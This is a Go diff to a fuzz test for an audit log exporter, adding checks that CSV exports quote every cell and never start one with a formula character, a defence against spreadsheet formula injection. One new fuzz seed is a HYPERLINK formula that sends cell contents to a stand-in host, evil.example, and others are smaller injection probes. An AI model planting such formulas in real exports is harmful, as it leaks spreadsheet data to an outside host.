@@ -2,6 +2,7 @@ package audit_test
 
 import (
 	"bytes"
+	"encoding/csv"
 	"errors"
 	"io"
 	"maps"
@@ -61,7 +62,9 @@ func FuzzCanonical(f *testing.F) {
 }
 
 // Whatever an export reader is given, it does not panic; what it reads
-// is written back as it was read; and fields written are read back.
+// is written back as it was read; fields written are read back; and no
+// cell of a CSV export is unquoted, spans lines or starts with a formula
+// character.
 func FuzzExport(f *testing.F) {
 	entries, _ := chain(f, 1, 2)
 	for _, format := range []audit.Format{audit.JSONL, audit.CSV} {
@@ -75,6 +78,10 @@ func FuzzExport(f *testing.F) {
 	}
 	f.Add(`{"id":"1-0","a":"\u0000"}`, false, "other", "")
 	f.Add("id,time,seq,event,thread,call,tool,decision,outcome,by,args_hash,reason,other,prev,hash\n", true, "by", "=1+1")
+	f.Add("", true, "reason", `=HYPERLINK("https://evil.example/?d="&B2&C2,"details")`)
+	f.Add("", true, "tool", "'@x")
+	f.Add("", true, "note", "\t-1")
+	f.Add("", true, "reason", "fine\n=1+1")
 	f.Fuzz(func(t *testing.T, in string, isCSV bool, name, value string) {
 		format := audit.JSONL
 		if isCSV {
@@ -82,19 +89,76 @@ func FuzzExport(f *testing.F) {
 		}
 		read, err := readAllErr(in, format)
 		if err == nil {
-			if again, err := readAllErr(writeAll(t, read, format), format); err != nil || !sameEntries(again, read) {
+			out := writeAll(t, read, format)
+			if again, err := readAllErr(out, format); err != nil || !sameEntries(again, read) {
 				t.Fatalf("%s %q read as %v, written and read again as %v, %v", format, in, read, again, err)
+			}
+			if format == audit.CSV {
+				noFormulas(t, out)
 			}
 		}
 		if !utf8.ValidString(name) || !utf8.ValidString(value) || name == "id" || name == "time" {
 			return // JSON carries text; id and time are the entry's own
 		}
 		e := audit.Entry{ID: "1700000000000-1", Fields: map[string]string{name: value, "seq": "1"}}
-		got, err := readAllErr(writeAll(t, []audit.Entry{e}, format), format)
+		out := writeAll(t, []audit.Entry{e}, format)
+		got, err := readAllErr(out, format)
 		if err != nil || len(got) != 1 || !sameEntries(got, []audit.Entry{e}) {
 			t.Fatalf("%s: wrote %+v, read back %+v, %v", format, e, got, err)
 		}
+		if format == audit.CSV {
+			noFormulas(t, out)
+		}
 	})
+}
+
+// noFormulas fails the test if a cell of a CSV export starts with a
+// formula character, is not quoted, or spans lines.
+func noFormulas(t *testing.T, out string) {
+	t.Helper()
+	for _, cell := range csvCells(t, out) {
+		if cell != "" && strings.ContainsRune(audit.FormulaPrefixes, rune(cell[0])) {
+			t.Fatalf("CSV export has the cell %q, which starts with a formula character:\n%s", cell, out)
+		}
+	}
+}
+
+// csvCells returns the cells of a CSV export as a spreadsheet sees them,
+// before Reader takes the single quotes off, and fails the test unless
+// every cell is quoted.
+func csvCells(t *testing.T, out string) []string {
+	t.Helper()
+	// Outside quotes, only a separator, a line's end or a quote that
+	// opens a cell.
+	quoted, start := false, true
+	for i := 0; i < len(out); i++ {
+		c := out[i]
+		switch {
+		case quoted && c == '"' && i+1 < len(out) && out[i+1] == '"':
+			i++
+		case quoted && c == '"':
+			quoted, start = false, false
+		case quoted && (c == '\n' || c == '\r'):
+			t.Fatalf("CSV export has a cell over several lines at byte %d:\n%s", i, out)
+		case quoted:
+		case start && c == '"':
+			quoted = true
+		case !start && (c == ',' || c == '\n'):
+			start = true
+		default:
+			t.Fatalf("CSV export has an unquoted cell at byte %d:\n%s", i, out)
+		}
+	}
+	r := csv.NewReader(strings.NewReader(out))
+	rows, err := r.ReadAll()
+	if err != nil {
+		t.Fatalf("CSV export does not read as CSV: %v\n%s", err, out)
+	}
+	var cells []string
+	for _, row := range rows {
+		cells = append(cells, row...)
+	}
+	return cells
 }
 
 func writeAll(t *testing.T, entries []audit.Entry, f audit.Format) string {
